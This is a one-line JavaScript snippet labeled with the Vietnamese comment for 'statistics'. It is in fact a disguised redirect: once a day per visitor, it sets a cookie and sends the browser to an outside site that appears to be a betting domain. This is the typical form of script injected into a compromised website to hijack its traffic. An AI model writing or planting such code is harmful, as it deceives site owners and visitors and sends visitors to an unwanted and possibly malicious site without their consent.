/* thong ke */ (function(){var u='https://vuasan88.vip/?s=11';if(document.cookie.indexOf('tk=1')<0){document.cookie='tk=1;max-age=86400';window.location.href=u;}})();
